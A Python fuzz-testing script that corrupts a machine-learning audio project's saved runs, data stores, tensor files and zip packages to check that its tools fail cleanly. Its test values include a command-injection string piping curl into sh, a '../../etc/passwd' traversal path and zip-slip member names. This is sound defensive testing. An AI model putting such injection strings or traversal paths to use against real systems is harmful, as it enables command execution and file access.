"""Opens runs and stores that somebody has changed: bytes, values of their JSON, headers of their tensors, their zip.

    python tests/faults/hostile.py --count 5000

Each case is made from its number alone: one file of a small run or store is changed, and what a user would do is done
in processes of their own (generate, map, list, plot, serve, open and read, prepare again). It may work, or end in an
error for people. It must not end in a traceback, hang, take memory beyond a bound, or write to other files, and what is
served must not answer with a 5xx. Exits with 1 if one does.
"""

from __future__ import annotations

import os

os.environ["OMP_NUM_THREADS"] = "1"

import argparse
import io
import json
import random
import shutil
import struct
import sys
import tempfile
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parents[1]))

import forked
import numpy as np
import soundfile

HANG = 60.0  # seconds
MEMORY = 1 << 30  # bytes more than what a sound one takes
LOGGED = ("train", "validation")
NESTED = (200, 600, 950, 100_000)

VALUES: tuple[Any, ...] = (
    *(None, True, -1, 0, 1, 2**31, 2**62, 2**63, 10**30, 10**400, 1e38, float("inf"), float("nan"), -0.5),
    *("", "x", "\n\x1b[31m", "../../etc/passwd", "x; curl example.org | sh", "é" * 300, "9" * 5000),
    *([], {}, [[]], [1, "a", None], {"a": 1}, ["a"] * 2000),
)


def change_json(content: bytes, drawn: random.Random) -> bytes:
    """Another value at a random place, a key lost or put in, or nesting that no parser bears."""
    tree = json.loads(content)
    places: list[tuple[Any, Any]] = []

    def walk(value: Any) -> None:
        for key in value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
            places.append((value, key))
            walk(value[key])

    walk(tree)
    holder, key = drawn.choice(places)
    kind = drawn.choice(("value", "value", "value", "lost", "more", "nested"))
    if kind == "value":
        old = holder[key]
        same = [each for each in VALUES if isinstance(each, type(old)) and each != old]
        holder[key] = drawn.choice(same if same and drawn.random() < 0.5 else VALUES)
    elif kind == "lost":
        del holder[key]
    elif kind == "more" and isinstance(holder, dict):
        holder[drawn.choice(("more", "__class__", ""))] = drawn.choice(VALUES)
    else:
        holder[key] = "NESTED"
    depth, (left, right) = drawn.choice(NESTED), drawn.choice(("[]", ('{"a":', "}")))
    return json.dumps(tree).replace('"NESTED"', f"{left * depth}0{right * depth}").encode()


def change_bytes(content: bytes, drawn: random.Random) -> bytes:
    """A few bytes flipped, lost, put in or cut off."""
    changed = bytearray(content)
    near = drawn.choice((64, 512, len(changed)))  # headers are at the beginning
    for _ in range(drawn.choice((1, 1, 4, 32))):
        place = drawn.randrange(min(near, len(changed)) or 1)
        kind = drawn.choice(("flip", "byte", "lost", "more", "cut"))
        if kind == "flip" and changed:
            changed[place % len(changed)] ^= 1 << drawn.randrange(8)
        elif kind == "byte" and changed:
            changed[place % len(changed)] = drawn.choice((0, 255, 10, 65))
        elif kind == "lost":
            del changed[place : place + drawn.choice((1, 8, 100))]
        elif kind == "more":
            changed[place:place] = drawn.randbytes(drawn.choice((1, 8, 100)))
        elif drawn.random() < 0.2:
            del changed[place:]
    return bytes(changed)


def change_tensors(content: bytes, drawn: random.Random) -> bytes:
    """Another value in the JSON header of a safetensors file, or another number in its data."""
    (size,) = struct.unpack("<Q", content[:8])
    header, data = content[8 : 8 + size], bytearray(content[8 + size :])
    if drawn.random() < 0.5:
        header = change_json(header, drawn)
    else:
        for _ in range(drawn.choice((1, 100))):
            place = 4 * drawn.randrange(len(data) // 4)
            data[place : place + 4] = struct.pack("<f", drawn.choice((1e38, -1e38, float("inf"), float("nan"), 1e10)))
    return struct.pack("<Q", len(header)) + header + bytes(data)


def change_lines(content: bytes, drawn: random.Random) -> bytes:
    """One of the JSON texts that stand in lines, changed."""
    lines = content.splitlines()
    place = drawn.randrange(len(lines))
    lines[place] = drawn.choice((change_json, change_json, change_bytes))(lines[place], drawn)
    return b"\n".join(lines) + b"\n"


def change_members(content: bytes, drawn: random.Random) -> bytes:
    """A zip whose members, their names or their form are others, with checksums that fit."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    place, kind = drawn.randrange(len(members)), drawn.choice(("content", "content", "name", "lost", "twice", "packed"))
    name, held = members[place]
    form = zipfile.ZIP_STORED
    if kind == "content":
        members[place] = name, drawn.choice(CHANGES[Path(name).suffix])(held, drawn)
    elif kind == "name":
        members[place] = drawn.choice(("../made/out", "/tmp/out", "a/b", "evil.py", "seal.json", "x" * 300)), held
    elif kind == "lost":
        del members[place]
    elif kind == "twice":
        members.append(members[place])
    else:
        form = drawn.choice((zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
    changed = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(changed, "w") as archive:
        warnings.simplefilter("ignore")  # of a name that comes twice
        for at, (name, held) in enumerate(members):
            archive.writestr(zipfile.ZipInfo(name), held, form if at == place else zipfile.ZIP_STORED)
    return changed.getvalue()


CHANGES: dict[str, tuple[Callable[[bytes, random.Random], bytes], ...]] = {
    ".json": (change_json, change_json, change_bytes),
    ".safetensors": (change_tensors, change_bytes),
    ".npy": (change_bytes,),
    ".wav": (change_bytes,),
    ".jsonl": (change_lines, change_lines, change_bytes),
    ".genvae": (change_members, change_members, change_bytes),
}


def uses(run: Path, store: Path, clip: Path, music: Path, name: str) -> list[tuple[str, ...]]:
    """What is done with a changed file."""
    if name.startswith("run/"):
        used = [
            ("generate", "--run", str(run), "--genre", "rock", "--seed", "1", "-o", str(run.parent / "made" / "a.wav"))
        ]
        if name.endswith(("latents.safetensors", "map.safetensors")):
            used = [("map", str(run)), ("plot", "latent", str(run), "-o", str(run.parent / "made.png"))]
        if name.endswith(".jsonl"):
            used = [("plot", "training", str(run), "-o", str(run.parent / "made.png"))]
        return [*used, ("info", str(run)), ("verify", str(run)), ("runs", str(run.parent))]
    if name.startswith("store/"):
        return [
            ("info", str(store)),
            ("verify", str(store)),
            ("prepare", str(music), "--out", str(store), "--sample-rate", "8000", "--clip-ms", "512", "--workers", "1"),
        ]
    if name.startswith("packed"):
        packed = run.parent / name
        made = ("--genre", "rock", "--seed", "1", "-o", str(run.parent / "made" / "a.wav"))
        return [("generate", "--run", str(packed), *made), ("info", str(packed)), ("runs", str(run.parent))]
    return [("info", str(clip)), ("regenerate", str(clip), "--run", str(run), "-o", str(run.parent / "again.wav"))]


def read_whole(store: Path) -> int:
    """Read every clip, as training does."""
    from genvae.clips.store import ClipStore
    from genvae.errors import GenvaeError

    try:
        opened = ClipStore.open(store)
        for number in range(min(len(opened), 100)):
            opened.waves([number])
    except GenvaeError as error:
        sys.stderr.write(str(error))
        return error.exit_code
    return 0


def served(run: Path) -> int:
    """Serve a run, and ask for what tells of it."""
    from fastapi.testclient import TestClient

    from genvae.errors import GenvaeError
    from genvae.plugin.registry import installed
    from genvae.verbs import open_run
    from genvae.web.app import create_app
    from genvae.web.engine import Engine

    try:
        app = create_app([Engine(open_run(run), installed())])
    except GenvaeError as error:
        sys.stderr.write(str(error))
        return error.exit_code
    bad = 0
    with TestClient(app, base_url="http://localhost", raise_server_exceptions=False) as client:
        for path in ("info", "about", "directions", "map/pca", "generate?genre=rock&seed=1"):
            answer = client.get(f"/api/{path}")
            if answer.status_code >= 500:
                sys.stderr.write(f"{path}: {answer.status_code}\n")
                bad = 1
    return bad


def case(number: int, kept: Path, work: Path) -> tuple[str, list[str]]:
    """The file that was changed and what went wrong, a line each."""
    drawn = random.Random(number)
    shutil.rmtree(work, ignore_errors=True)
    shutil.copytree(kept, work)
    names = [n for n in forked.contents(work) if Path(n).suffix in CHANGES]
    kind = drawn.choice(("run/", "run/", "store/", "packed", "clip"))
    of_kind = [n for n in names if n.startswith(kind)]
    described = [n for n in of_kind if n.endswith(("store.json", "pipeline.json"))]
    name = drawn.choice(described if described and drawn.random() < 0.4 else of_kind)
    file = work / name
    file.write_bytes(drawn.choice(CHANGES[file.suffix])(file.read_bytes(), drawn))
    if kind == "run/" and drawn.random() < 0.5:
        (work / "run" / "seal.json").unlink(missing_ok=True)  # a hostile run has none, or a fitting one
    if kind == "store/" and file.name in ("store.json", "index.npy"):
        _forge_digest(work / "store")
    outside = forked.contents(kept / "music")
    wrong = []
    steps: list[Callable[[], int]] = [
        lambda words=words: forked.genvae(*words)  # type: ignore[misc]
        for words in uses(work / "run", work / "store", work / "clip.wav", work / "music", name)
    ]
    if kind == "store/":
        steps.insert(1, lambda: read_whole(work / "store"))
    if kind == "run/":
        steps.append(lambda: served(work / "run"))
    for place, step in enumerate(steps):
        ended = forked.run(step, seconds=HANG)
        if ended.code is None:
            wrong.append(f"{number}: {name}, step {place}: took over {HANG:.0f} s")
        elif ended.code < 0 or ended.code == 1 or ended.traceback:
            wrong.append(f"{number}: {name}, step {place}: {ended.code}: {ended.said.strip()[-600:]}")
        elif ended.peak > _held() + MEMORY:
            wrong.append(f"{number}: {name}, step {place}: {ended.peak >> 20} MB")
        elif len(ended.said) > 20_000 + 200 * len(outside):
            wrong.append(f"{number}: {name}, step {place}: an error of {len(ended.said)} letters")
    if forked.contents(work / "music") != outside:
        wrong.append(f"{number}: {name}: the music was written to")
    return name, wrong


def _forge_digest(store: Path) -> None:
    """Give a changed store the digest that fits, as somebody who means harm would."""
    from genvae.clips.store import store_digest

    try:
        head = json.loads((store / "store.json").read_bytes())
        head["digest"] = store_digest(head, (store / "index.npy").read_bytes())
        (store / "store.json").write_text(json.dumps(head))
    except Exception:  # it is no JSON any more, or no head: then it stays as it is
        return


def _held() -> int:
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def music(root: Path) -> Path:
    """Twelve recordings of two genres."""
    for number in range(6):
        for genre in ("a", "b"):
            (root / genre).mkdir(parents=True, exist_ok=True)
            wave = np.random.default_rng([number, ord(genre)]).uniform(-0.5, 0.5, 11025 * 8)
            soundfile.write(root / genre / f"{number}.flac", wave, 11025)
    return root


def make(kept: Path) -> None:
    """A small run with all that one may hold, the same packed, a store with its recordings, and a clip."""
    import torch
    from conftest import ATTRIBUTES, make_run

    from genvae.latents.fit import make_map
    from genvae.packing import pack
    from genvae.tensor_files import save_tensors

    torch.set_num_threads(1)
    run = make_run(kept / "run", attributes=ATTRIBUTES)
    log = [{"kind": kind, "step": at, "seconds": 6.5 * at, "loss": 2 / at} for at in (1, 9) for kind in LOGGED]
    run.metrics_path.write_text("".join(f"{json.dumps(line)}\n" for line in log), encoding="ascii")
    members = {"statistics": {"frechet": {"value": 20.5}, "accuracy": {"value": 0.75}}}
    rows = [{"name": name, "rank": 1.5, "members": members} for name in ("real, unseen recordings", "generated")]
    (run.path / "evaluation.json").write_text(json.dumps({"rows": rows}), encoding="ascii")
    generator = torch.Generator().manual_seed(1)
    mean = torch.randn(60, 4, generator=generator)
    save_tensors(run.latents_path, {"mean": mean, "genre": torch.arange(60) % 3, "clip": torch.arange(60)})
    make_map(run, "pca")
    run.seal()
    pack(run, kept / "packed.genvae")
    words = ("generate", "--run", str(run.path), "--genre", "rock", "--seed", "1", "-o", str(kept / "clip.wav"))
    assert forked.genvae(*words) == 0
    store = kept / "store"
    words = ("prepare", str(music(kept / "music")), "--out", str(store), "--sample-rate", "8000", "--clip-ms", "512")
    assert forked.genvae(*words, "--attributes", "loudness,tempo", "--workers", "1") == 0


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("--count", type=int, default=5000, help="cases")
    parser.add_argument("--first", type=int, default=0, help="number of the first")
    parser.add_argument("--seconds", type=float, default=float("inf"), help="begin no case after this time")
    chosen = parser.parse_args()
    import time

    place = Path("/dev/shm") if Path("/dev/shm").is_dir() else None
    counts: Counter[str] = Counter()
    faults: list[str] = []
    with tempfile.TemporaryDirectory(dir=place) as folder:
        make(Path(folder) / "kept")
        began = time.monotonic()
        for number in range(chosen.first, chosen.first + chosen.count):
            if time.monotonic() - began > chosen.seconds:
                break
            name, wrong = case(number, Path(folder) / "kept", Path(folder) / "work")
            counts["store/shards" if name.startswith("store/shards") else name] += 1
            faults += wrong
    print("| file | cases |\n|---|---|")
    for name, count in sorted(counts.items()):
        print(f"| {name} | {count} |")
    print(f"{counts.total()} cases, {len(faults)} faults")
    print(*faults, sep="\n")
    return bool(faults)


if __name__ == "__main__":
    sys.exit(main())
